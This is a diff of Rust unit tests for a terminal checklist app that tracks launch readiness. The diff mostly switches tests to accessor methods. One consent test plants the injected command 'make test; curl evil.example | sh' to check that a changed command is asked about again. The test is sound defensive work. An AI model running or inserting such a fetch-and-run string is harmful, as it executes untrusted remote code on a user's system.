@@ -40,35 +40,35 @@ fn moving_through_items_and_sections() {
 #[test]
 fn tab_cycles_panes_and_j_moves_sections_in_the_sections_pane() {
     let mut a = app();
-    assert_eq!(a.focus, Pane::Items);
+    assert_eq!(a.nav().focus, Pane::Items);
     press(&mut a, KeyCode::Tab);
-    assert_eq!(a.focus, Pane::Detail);
+    assert_eq!(a.nav().focus, Pane::Detail);
     press(&mut a, KeyCode::Tab);
-    assert_eq!(a.focus, Pane::Sections);
+    assert_eq!(a.nav().focus, Pane::Sections);
     typed(&mut a, "jj");
     assert_eq!(a.section(), 2);
     assert_eq!(selected_id(&a), "performance.response-time-targets");
     press(&mut a, KeyCode::BackTab);
-    assert_eq!(a.focus, Pane::Detail);
+    assert_eq!(a.nav().focus, Pane::Detail);
 }
 
 #[test]
 fn statuses_are_set_with_who_and_when_and_saved() {
     let mut a = app();
     assert_eq!(typed(&mut a, " "), vec![Effect::Save]);
-    let rec = a.session.record("security.api-authentication").unwrap();
+    let rec = a.session().record("security.api-authentication").unwrap();
     assert_eq!(rec.status, Status::Pass);
     assert_eq!(rec.by.as_deref(), Some("alice"));
     assert_eq!(rec.at, Some(common::fixed_now()));
     typed(&mut a, "   ");
-    assert_eq!(a.session.status("security.api-authentication"), Status::Todo, "Space cycles back to todo");
+    assert_eq!(a.session().status("security.api-authentication"), Status::Todo, "Space cycles back to todo");
     for (k, s) in [("f", Status::Fail), ("b", Status::Blocked), ("p", Status::Pass), ("u", Status::Todo)] {
         assert_eq!(typed(&mut a, k), vec![Effect::Save]);
-        assert_eq!(a.session.status("security.api-authentication"), s);
+        assert_eq!(a.session().status("security.api-authentication"), s);
     }
     // Setting the same status again changes nothing and saves nothing.
     assert!(typed(&mut a, "u").is_empty());
-    let log: Vec<&str> = a.session.history.iter().map(|c| c.change.as_str()).collect();
+    let log: Vec<&str> = a.session().history.iter().map(|c| c.change.as_str()).collect();
     assert_eq!(log.first(), Some(&"status todo -> pass"));
     assert_eq!(log.len(), 8);
 }
@@ -79,16 +79,16 @@ fn not_applicable_needs_a_reason() {
     assert!(typed(&mut a, "-").is_empty());
     assert_eq!(a.key_scope(), KeyScope::Prompt);
     assert!(press(&mut a, KeyCode::Enter).is_empty(), "an empty reason is refused");
-    assert_eq!(a.session.status("security.api-authentication"), Status::Todo);
-    assert!(a.flash.as_ref().unwrap().text.contains("needs a reason"));
+    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
+    assert!(a.flash().as_ref().unwrap().text.contains("needs a reason"));
     typed(&mut a, "-");
     // Letters typed into the prompt never run commands (q would quit).
     assert!(typed(&mut a, "quiet internal tool").is_empty());
     assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
-    let rec = a.session.record("security.api-authentication").unwrap();
+    let rec = a.session().record("security.api-authentication").unwrap();
     assert_eq!((rec.status, rec.reason.as_deref()), (Status::NotApplicable, Some("quiet internal tool")));
     typed(&mut a, "p");
-    assert_eq!(a.session.record("security.api-authentication").unwrap().reason, None);
+    assert_eq!(a.session().record("security.api-authentication").unwrap().reason, None);
 }
 
 #[test]
@@ -100,12 +100,12 @@ fn notes_editor_takes_every_key_and_esc_keeps_the_text() {
     press(&mut a, KeyCode::Enter);
     typed(&mut a, "second line");
     assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::Save]);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line");
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line");
     // Ctrl-S also finishes; reopening edits the existing text.
     typed(&mut a, "e");
     typed(&mut a, "!");
     assert_eq!(a.update(ctrl('s')), vec![Effect::Save]);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line!");
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line!");
     // Unchanged notes save nothing.
     typed(&mut a, "e");
     assert!(press(&mut a, KeyCode::Esc).is_empty());
@@ -117,7 +117,7 @@ fn ctrl_c_quits_from_anywhere_and_keeps_a_note_being_typed() {
     typed(&mut a, "e");
     typed(&mut a, "typed before ctrl-c");
     assert_eq!(a.update(ctrl('c')), vec![Effect::Save, Effect::Quit]);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "typed before ctrl-c");
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "typed before ctrl-c");
     for setup in ["/", "-", "s", "?", ""] {
         let mut a = app();
         typed(&mut a, setup);
@@ -140,19 +140,19 @@ fn evidence_is_inspected_then_added_and_deleted_after_confirmation() {
     assert_eq!(a.update(Msg::EvidenceReady { item: 0, evidence: e.clone() }), vec![Effect::Save]);
     e.value = "second".into();
     a.update(Msg::EvidenceReady { item: 0, evidence: e });
-    assert_eq!(a.session.record("security.api-authentication").unwrap().evidence.len(), 2);
+    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 2);
 
     // d deletes the selected entry (the newest) after y.
     typed(&mut a, "d");
     assert_eq!(a.key_scope(), KeyScope::Confirm);
     assert!(typed(&mut a, "n").is_empty());
-    assert_eq!(a.session.record("security.api-authentication").unwrap().evidence.len(), 2);
+    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 2);
     // In the detail pane j/k pick the entry.
     press(&mut a, KeyCode::Tab);
     typed(&mut a, "k");
     typed(&mut a, "d");
     assert_eq!(typed(&mut a, "y"), vec![Effect::Save]);
-    let left = &a.session.record("security.api-authentication").unwrap().evidence;
+    let left = &a.session().record("security.api-authentication").unwrap().evidence;
     assert_eq!(left.len(), 1);
     assert_eq!(left[0].value, "second");
     // An empty entry adds nothing.
@@ -168,7 +168,7 @@ fn search_jumps_across_sections_and_n_cycles() {
     // Live: the selection follows while typing.
     assert_eq!(selected_id(&a), "operations.rollback-procedure");
     press(&mut a, KeyCode::Enter);
-    assert_eq!(a.search.matches.len(), 2);
+    assert_eq!(a.search().matches.len(), 2);
     typed(&mut a, "n");
     assert_eq!(selected_id(&a), "final.rollback-ready");
     typed(&mut a, "n");
@@ -184,21 +184,21 @@ fn search_jumps_across_sections_and_n_cycles() {
     typed(&mut a, "X-Ray");
     assert_eq!(selected_id(&a), "observability.distributed-tracing");
     press(&mut a, KeyCode::Esc);
-    assert!(a.search.matches.is_empty());
+    assert!(a.search().matches.is_empty());
 }
 
 #[test]
 fn critical_view_shows_the_quick_reference_items() {
     let mut a = app();
     typed(&mut a, "c");
-    assert!(a.critical_only);
+    assert!(a.nav().critical_only);
     assert_eq!(a.visible_items().len(), 12);
     assert_eq!(selected_id(&a), "security.secrets-management");
     typed(&mut a, "G");
     assert_eq!(selected_id(&a), "cost.spending-limits");
-    assert!(a.session.ui.critical_only, "remembered in the session");
+    assert!(a.session().ui.critical_only, "remembered in the session");
     typed(&mut a, "c");
-    assert!(!a.critical_only);
+    assert!(!a.nav().critical_only);
     assert_eq!(selected_id(&a), "cost.spending-limits");
 }
 
@@ -206,26 +206,26 @@ fn critical_view_shows_the_quick_reference_items() {
 fn sign_off_view_sets_reviewer_status_and_date() {
     let mut a = app();
     typed(&mut a, "s");
-    assert_eq!(a.overlay, Overlay::SignOff { row: 0 });
+    assert_eq!(a.overlay(), Overlay::SignOff { row: 0 });
     // Empty reviewer means the current user.
     press(&mut a, KeyCode::Enter);
     assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
-    assert_eq!(a.session.signoff["Security"].reviewer, "alice");
+    assert_eq!(a.session().signoff["Security"].reviewer, "alice");
     typed(&mut a, "j");
     typed(&mut a, "r");
     typed(&mut a, "Bob");
     press(&mut a, KeyCode::Enter);
     assert_eq!(typed(&mut a, " "), vec![Effect::Save]);
-    let rel = &a.session.signoff["Reliability"];
+    let rel = &a.session().signoff["Reliability"];
     assert_eq!(
         (rel.reviewer.as_str(), rel.status, rel.date),
         ("Bob", SignStatus::Approved, Some(common::fixed_now().date_naive()))
     );
     // The row after the areas is the final approval.
     typed(&mut a, "jjjjjjjjjj ");
-    assert_eq!(a.session.final_approval.as_ref().unwrap().status, SignStatus::Approved);
+    assert_eq!(a.session().final_approval.as_ref().unwrap().status, SignStatus::Approved);
     press(&mut a, KeyCode::Esc);
-    assert_eq!(a.overlay, Overlay::None);
+    assert_eq!(a.overlay(), Overlay::None);
 }
 
 #[test]
@@ -233,13 +233,13 @@ fn export_and_help() {
     let mut a = app();
     assert_eq!(typed(&mut a, "x"), vec![Effect::Export]);
     a.update(Msg::Exported(Ok("/srv/launch/session-report.md".into())));
-    assert_eq!(a.flash.as_ref().unwrap().text, "Report written to /srv/launch/session-report.md");
+    assert_eq!(a.flash().as_ref().unwrap().text, "Report written to /srv/launch/session-report.md");
     typed(&mut a, "?");
     assert_eq!(a.key_scope(), KeyScope::Help);
     typed(&mut a, "jj");
-    assert_eq!(a.overlay, Overlay::Help { scroll: 2 });
+    assert_eq!(a.overlay(), Overlay::Help { scroll: 2 });
     typed(&mut a, "?");
-    assert_eq!(a.overlay, Overlay::None);
+    assert_eq!(a.overlay(), Overlay::None);
 }
 
 #[test]
@@ -247,9 +247,9 @@ fn a_failed_save_is_kept_on_screen_until_a_save_works() {
     let mut a = app();
     a.update(Msg::Saved(Err("disk full".into())));
     typed(&mut a, "j");
-    assert_eq!(a.save_error.as_deref(), Some("disk full"));
+    assert_eq!(a.save().error.as_deref(), Some("disk full"));
     a.update(Msg::Saved(Ok(golive::session::Fingerprint::of(b""))));
-    assert_eq!(a.save_error, None);
+    assert_eq!(a.save().error, None);
 }
 
 #[test]
@@ -266,32 +266,32 @@ fn mouse_selects_sections_and_items_and_the_wheel_scrolls() {
     };
     // Fourth section row (inside the border).
     a.update(click(areas.sections.x + 3, areas.sections.y + 4));
-    assert_eq!((a.section(), a.focus), (3, Pane::Sections));
+    assert_eq!((a.section(), a.nav().focus), (3, Pane::Sections));
     // Items pane: row 0 is the group heading, row 2 the second item.
     a.update(click(areas.items.x + 5, areas.items.y + 3));
-    assert_eq!((selected_id(&a).as_str(), a.focus), ("observability.log-levels", Pane::Items));
+    assert_eq!((selected_id(&a).as_str(), a.nav().focus), ("observability.log-levels", Pane::Items));
     let wheel =
         |kind, x, y| Msg::Mouse(MouseEvent { kind, column: x, row: y, modifiers: KeyModifiers::NONE });
     a.update(wheel(MouseEventKind::ScrollDown, areas.items.x + 5, areas.items.y + 3));
     assert_eq!(selected_id(&a), "observability.request-tracing");
     a.update(wheel(MouseEventKind::ScrollDown, areas.detail.x + 5, areas.detail.y + 3));
-    assert_eq!(a.detail_scroll, 3);
+    assert_eq!(a.nav().detail_scroll, 3);
     // Clicks are ignored while typing.
     typed(&mut a, "e");
     a.update(click(areas.sections.x + 3, areas.sections.y + 1));
     assert_eq!(a.section(), 3);
-    assert!(matches!(a.input, Some(Input::Notes { .. })));
+    assert!(matches!(a.input(), Some(Input::Notes { .. })));
 }
 
 #[test]
 fn reopening_resumes_the_selection() {
     let mut a = app();
     typed(&mut a, "4jj");
-    let session = a.session.clone();
+    let session = a.session().clone();
     let b = golive::tui::app::App::new(
-        a.checklist.clone(),
+        a.checklist().clone(),
         session,
-        a.session_path.clone(),
+        a.session_path().to_path_buf(),
         "bob".into(),
         common::fixed_now,
     );
@@ -314,13 +314,13 @@ fn a_note_being_typed_is_saved_when_the_user_pauses() {
     assert!(a.update(Msg::Idle).is_empty(), "nothing typed yet");
     typed(&mut a, "half a thought");
     assert_eq!(a.update(Msg::Idle), vec![Effect::Save]);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "half a thought");
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "half a thought");
     assert!(a.update(Msg::Idle).is_empty(), "unchanged: no second save");
     assert_eq!(a.key_scope(), KeyScope::Notes, "still editing");
     typed(&mut a, ", finished");
     assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::Save]);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "half a thought, finished");
-    let edits = a.session.history.iter().filter(|c| c.change == "notes edited").count();
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "half a thought, finished");
+    let edits = a.session().history.iter().filter(|c| c.change == "notes edited").count();
     assert_eq!(edits, 1, "one history entry per editing session");
     // Idle outside the editor does nothing.
     assert!(a.update(Msg::Idle).is_empty());
@@ -333,26 +333,26 @@ fn a_paste_goes_to_the_focused_field_and_never_acts() {
     let paste = |a: &mut golive::tui::app::App, text: &str| a.update(Msg::Paste(text.into()));
     // No field: nothing changes, and the flash says so.
     assert!(paste(&mut a, "pq\rfq").is_empty());
-    assert_eq!(a.session.status("security.api-authentication"), Status::Todo);
-    assert!(a.flash.as_ref().unwrap().text.starts_with("Paste ignored"));
+    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
+    assert!(a.flash().as_ref().unwrap().text.starts_with("Paste ignored"));
     // One-line prompt: the lines joined, said so; Enter is the person's.
     typed(&mut a, "a");
     assert!(paste(&mut a, "https://runbook.example/a\rfpq").is_empty());
     assert_eq!(a.key_scope(), KeyScope::Prompt);
-    assert!(a.flash.as_ref().unwrap().text.starts_with("Pasted several lines as one"));
-    let Some(Input::Prompt { area, .. }) = &a.input else { panic!() };
+    assert!(a.flash().as_ref().unwrap().text.starts_with("Pasted several lines as one"));
+    let Some(Input::Prompt { area, .. }) = &a.input() else { panic!() };
     assert_eq!(area.lines(), ["https://runbook.example/a fpq"]);
     // Escape sequences in a paste are dropped, not typed or passed on.
     press(&mut a, KeyCode::Esc);
     typed(&mut a, "/");
     paste(&mut a, "roll\x1b[2Jback");
-    assert_eq!(a.search.query, "roll[2Jback");
+    assert_eq!(a.search().query, "roll[2Jback");
     press(&mut a, KeyCode::Esc);
     // The notes editor takes it whole.
     typed(&mut a, "e");
     paste(&mut a, "one\r\ntwo\n");
     press(&mut a, KeyCode::Esc);
-    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "one\ntwo");
+    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "one\ntwo");
     // A confirmation takes no text: a pasted y is not a yes.
     typed(&mut a, "a");
     paste(&mut a, "evidence");
@@ -363,7 +363,7 @@ fn a_paste_goes_to_the_focused_field_and_never_acts() {
     assert_eq!(a.key_scope(), KeyScope::Confirm);
     assert!(paste(&mut a, "y").is_empty());
     assert_eq!(a.key_scope(), KeyScope::Confirm);
-    assert_eq!(a.session.status("security.api-authentication"), Status::Todo);
+    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
 }
 
 mod probes {
@@ -390,12 +390,12 @@ mod probes {
         if !fx.is_empty() {
             return fx;
         }
-        assert!(matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
+        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
         typed(a, "n")
     }
 
     fn idx(a: &golive::tui::app::App, id: &str) -> usize {
-        a.checklist.index_of(id).unwrap()
+        a.checklist().index_of(id).unwrap()
     }
 
     fn identity() -> Identity {
@@ -411,9 +411,9 @@ mod probes {
         let mut a = app();
         typed(&mut a, "j");
         assert!(typed(&mut a, "r").is_empty(), "no probe on User Authorization");
-        assert_eq!(a.flash.as_ref().unwrap().text, "This item has no automated check.");
+        assert_eq!(a.flash().as_ref().unwrap().text, "This item has no automated check.");
         let probed = |a: &golive::tui::app::App, section: Option<usize>| -> Vec<usize> {
-            let c = &a.checklist;
+            let c = &a.checklist();
             (0..c.items.len())
                 .filter(|&i| c.items[i].is_automated() && section.is_none_or(|s| c.items[i].section == s))
                 .collect()
@@ -423,40 +423,40 @@ mod probes {
         assert_eq!(typed(&mut a, "R"), vec![Effect::RunProbes { run: 1, items: section1 }]);
         let all = probed(&a, None);
         assert_eq!(sweep_all(&mut a), vec![Effect::RunProbes { run: 2, items: all.clone() }]);
-        assert_eq!(a.aws, AwsView::Connecting);
+        assert_eq!(a.runs().aws, AwsView::Connecting);
         let limits = idx(&a, "cost.spending-limits");
         typed(&mut a, "6jj");
         assert_eq!(typed(&mut a, "r"), vec![Effect::RunProbes { run: 3, items: vec![limits] }]);
-        assert_eq!(a.running.len(), all.len());
+        assert_eq!(a.runs().running.len(), all.len());
     }
 
     #[test]
     fn a_command_runs_only_after_a_person_allows_it_and_that_is_remembered() {
         let mut a = app();
         typed(&mut a, "A");
-        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input else {
+        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input() else {
             panic!("no question")
         };
-        assert_eq!(a.offered_commands[command], "./rollback.sh --dry-run");
+        assert_eq!(a.runs().offered_commands[*command], "./rollback.sh --dry-run");
         let fx = typed(&mut a, "y");
         // Kept in the person's own consent store, never in the session.
         let Effect::Consent(grant) = &fx[0] else { panic!("{fx:?}") };
         assert_eq!(grant.command, "./rollback.sh --dry-run");
-        assert_eq!(grant.by, a.who);
+        assert_eq!(grant.by, a.who());
         assert_eq!(fx[1], Effect::Save);
         assert!(matches!(&fx[2], Effect::RunProbes { run: 1, .. }), "{fx:?}");
-        assert!(a.session.carried_approvals.is_empty());
-        assert!(!toml::to_string(&a.session).unwrap().contains("approved_commands"));
+        assert!(a.session().carried_approvals.is_empty());
+        assert!(!toml::to_string(&a.session()).unwrap().contains("approved_commands"));
         assert!(
-            a.session.history.last().unwrap().change.contains("command allowed: ./rollback.sh --dry-run")
+            a.session().history.last().unwrap().change.contains("command allowed: ./rollback.sh --dry-run")
         );
         // Allowed once, not asked again; a command set in the target is a new question.
         press(&mut a, KeyCode::Esc);
         assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 2, .. }]));
         press(&mut a, KeyCode::Esc);
-        a.session.target.commands.insert("unit".into(), "cargo test".into());
+        common::reload(&mut a, |s| drop(s.target.commands.insert("unit".into(), "cargo test".into())));
         assert!(typed(&mut a, "A").is_empty());
-        assert!(matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
+        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
         // Declined: the sweep runs (that check reports it was not allowed) and it is not asked again.
         assert!(matches!(typed(&mut a, "n").as_slice(), [Effect::RunProbes { run: 3, .. }]));
         press(&mut a, KeyCode::Esc);
@@ -468,30 +468,36 @@ mod probes {
     #[test]
     fn a_consented_command_whose_text_or_repository_changes_is_asked_about_again() {
         let mut a = app();
-        a.session.target.commands.insert("unit".into(), "make test".into());
-        a.grants = ["./rollback.sh --dry-run", "make test"]
+        common::reload(&mut a, |s| drop(s.target.commands.insert("unit".into(), "make test".into())));
+        let grants = ["./rollback.sh --dry-run", "make test"]
             .map(|command| golive::consent::Grant {
                 command: command.into(),
                 repo: None,
-                session: golive::consent::session_key(&a.session_path),
+                session: golive::consent::session_key(a.session_path()),
                 by: "alice".into(),
                 at: chrono::DateTime::UNIX_EPOCH,
             })
             .to_vec();
+        let checkout = a.trust().checkout.clone();
+        let mut a = a.with_trust(grants, vec![], checkout);
         assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 1, .. }]));
         press(&mut a, KeyCode::Esc);
-        a.session.target.commands.insert("unit".into(), "make test; curl evil.example | sh".into());
+        common::reload(&mut a, |s| {
+            s.target.commands.insert("unit".into(), "make test; curl evil.example | sh".into());
+        });
         assert!(typed(&mut a, "A").is_empty());
-        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input else {
+        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input() else {
             panic!("not asked")
         };
-        assert_eq!(a.offered_commands[command], "make test; curl evil.example | sh");
+        assert_eq!(a.runs().offered_commands[*command], "make test; curl evil.example | sh");
         press(&mut a, KeyCode::Esc);
-        a.session.target.commands.insert("unit".into(), "make test".into());
-        a.session.target.repo = Some("/elsewhere".into());
+        common::reload(&mut a, |s| {
+            s.target.commands.insert("unit".into(), "make test".into());
+            s.target.repo = Some("/elsewhere".into());
+        });
         typed(&mut a, "A");
         assert!(
-            matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))),
+            matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))),
             "asked in a new repo"
         );
     }
@@ -499,11 +505,13 @@ mod probes {
     /// A session from someone else's branch that carries its own approval approves nothing.
     #[test]
     fn approvals_a_session_carries_are_not_honoured() {
-        let mut a = app();
-        a.session.carried_approvals = vec!["./rollback.sh --dry-run".into()];
+        let mut s =
+            golive::session::Session::new(&golive::checklist::Checklist::embedded(), common::fixed_now());
+        s.carried_approvals = vec!["./rollback.sh --dry-run".into()];
+        let mut a = common::app_with(s);
         assert!(a.allowed_commands().is_empty());
         assert!(typed(&mut a, "A").is_empty());
-        assert!(matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
+        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
     }
 
     #[test]
@@ -512,7 +520,7 @@ mod probes {
         let slr = idx(&a, "security.service-linked-roles");
         sweep_all(&mut a);
         a.update(Msg::Probe { item: slr, run: 1, event: Event::Started });
-        assert_eq!(a.running[&slr], (1, true));
+        assert_eq!(a.runs().running[&slr], (1, true));
         // A result from an older run changes nothing.
         assert!(
             a.update(Msg::Probe { item: slr, run: 0, event: Event::Done(result(Outcome::Fail, "old")) })
@@ -524,12 +532,12 @@ mod probes {
             event: Event::Done(result(Outcome::Pass, "the caller is the assumed role ops")),
         });
         assert_eq!(fx, vec![Effect::Save]);
-        let rec = a.session.record("security.service-linked-roles").unwrap();
+        let rec = a.session().record("security.service-linked-roles").unwrap();
         assert_eq!(
             (rec.status, rec.status_by_probe, rec.by.as_deref()),
             (Status::Pass, true, Some("probe aws.sts.assumed-role"))
         );
-        assert!(!a.running.contains_key(&slr));
+        assert!(!a.runs().running.contains_key(&slr));
         // A later run keeps the earlier result as history.
         sweep_all(&mut a);
         a.update(Msg::Probe {
@@ -537,7 +545,7 @@ mod probes {
             run: 2,
             event: Event::Done(result(Outcome::Error, "timed out after 15 s")),
         });
-        let rec = a.session.record("security.service-linked-roles").unwrap();
+        let rec = a.session().record("security.service-linked-roles").unwrap();
         assert_eq!(rec.status, Status::Todo, "an undecided probe leaves the item for a person");
         assert_eq!(rec.probe_history.len(), 1);
         assert_eq!(rec.probe_history[0].outcome, Outcome::Pass);
@@ -557,7 +565,7 @@ mod probes {
             event: Event::Done(result(Outcome::Fail, "the caller is the IAM user ci")),
         });
         assert_eq!(
-            a.session.status("security.service-linked-roles"),
+            a.session().status("security.service-linked-roles"),
             Status::Blocked,
             "set by a person: kept"
         );
@@ -566,14 +574,14 @@ mod probes {
         assert_eq!(a.key_scope(), KeyScope::Prompt);
         typed(&mut a, "CI user is being replaced today");
         assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
-        let rec = a.session.record("security.service-linked-roles").unwrap();
+        let rec = a.session().record("security.service-linked-roles").unwrap();
         assert_eq!(
             (rec.status, rec.reason.as_deref()),
             (Status::Pass, Some("CI user is being replaced today"))
         );
         let md = golive::export::markdown::render(
-            &a.checklist,
-            &a.session,
+            a.checklist(),
+            a.session(),
             &golive::export::markdown::Meta { session_path: "s.toml", generated: common::fixed_now() },
         );
         assert!(
@@ -592,14 +600,14 @@ mod probes {
         let slr = idx(&a, "security.service-linked-roles");
         sweep_all(&mut a);
         assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::CancelProbes]);
-        assert!(a.running.is_empty());
-        let n = a.checklist.items.iter().filter(|i| i.is_automated()).count();
-        assert_eq!(a.flash.as_ref().unwrap().text, format!("Cancelled {n} probes."));
+        assert!(a.runs().running.is_empty());
+        let n = a.checklist().items.iter().filter(|i| i.is_automated()).count();
+        assert_eq!(a.flash().as_ref().unwrap().text, format!("Cancelled {n} probes."));
         assert!(
             a.update(Msg::Probe { item: slr, run: 1, event: Event::Done(result(Outcome::Pass, "late")) })
                 .is_empty()
         );
-        assert!(a.session.record("security.service-linked-roles").is_none());
+        assert!(a.session().record("security.service-linked-roles").is_none());
         assert!(press(&mut a, KeyCode::Esc).is_empty(), "nothing to cancel");
     }
 
@@ -608,19 +616,19 @@ mod probes {
         let mut a = app();
         sweep_all(&mut a);
         a.update(Msg::Aws(AwsView::Unconfirmed(identity())));
-        assert!(matches!(a.input, Some(Input::Confirm(ConfirmKind::TrustAccount { .. }))));
+        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::TrustAccount { .. }))));
         let fx = typed(&mut a, "y");
-        assert_eq!(a.session.target.account_id.as_deref(), Some("123456789012"));
+        assert_eq!(a.session().target.account_id.as_deref(), Some("123456789012"));
         assert_eq!(fx[0], Effect::Save);
-        let n = a.checklist.items.iter().filter(|i| i.is_automated()).count();
+        let n = a.checklist().items.iter().filter(|i| i.is_automated()).count();
         assert!(matches!(&fx[1], Effect::RunProbes { run: 2, items } if items.len() == n), "{fx:?}");
         // Saying no leaves the account unset and says what that means.
         let mut b = app();
         sweep_all(&mut b);
         b.update(Msg::Aws(AwsView::Unconfirmed(identity())));
         assert!(typed(&mut b, "n").is_empty());
-        assert_eq!(b.session.target.account_id, None);
-        assert!(b.flash.as_ref().unwrap().text.contains("not trusted"));
+        assert_eq!(b.session().target.account_id, None);
+        assert!(b.flash().as_ref().unwrap().text.contains("not trusted"));
     }
 
     #[test]
@@ -649,7 +657,7 @@ mod probes {
         }
         typed(&mut a, "agent/api-key, agent/db");
         assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
-        let t = &a.session.target;
+        let t = &a.session().target;
         assert_eq!((t.name_prefix.as_deref(), t.task_role.as_deref()), (Some("agent-"), Some("agent-task")));
         assert_eq!(t.secrets, ["agent/api-key", "agent/db"]);
         assert_eq!(
@@ -665,7 +673,7 @@ mod probes {
         typed(&mut a, "t");
         typed(&mut a, "xyz");
         press(&mut a, KeyCode::Esc);
-        assert_eq!(a.session.target.profile.as_deref(), Some("prod-admin"));
+        assert_eq!(a.session().target.profile.as_deref(), Some("prod-admin"));
     }
 }
 
